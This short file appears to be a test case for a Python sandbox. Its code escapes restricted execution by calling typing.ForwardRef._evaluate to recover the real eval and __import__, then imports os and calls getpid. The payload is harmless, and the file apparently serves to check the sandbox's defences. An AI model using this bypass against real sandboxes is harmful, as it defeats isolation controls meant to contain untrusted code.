# technique: typing.ForwardRef(source)._evaluate({}, {}, ...) compiles and evals any expression with typing's real builtins (the empty globals get them), here one returning a class that holds the real eval and __import__
# configs: default, common
# With nothing allowed `import typing` is refused.
import typing
ref = typing.ForwardRef("type('Loot', (), dict(e=eval, i=__import__))")
loot = ref._evaluate({}, {}, recursive_guard=frozenset())
return [{'json': {'escaped': [loot.e('6 * 7'), loot.i('os').getpid()]}}]
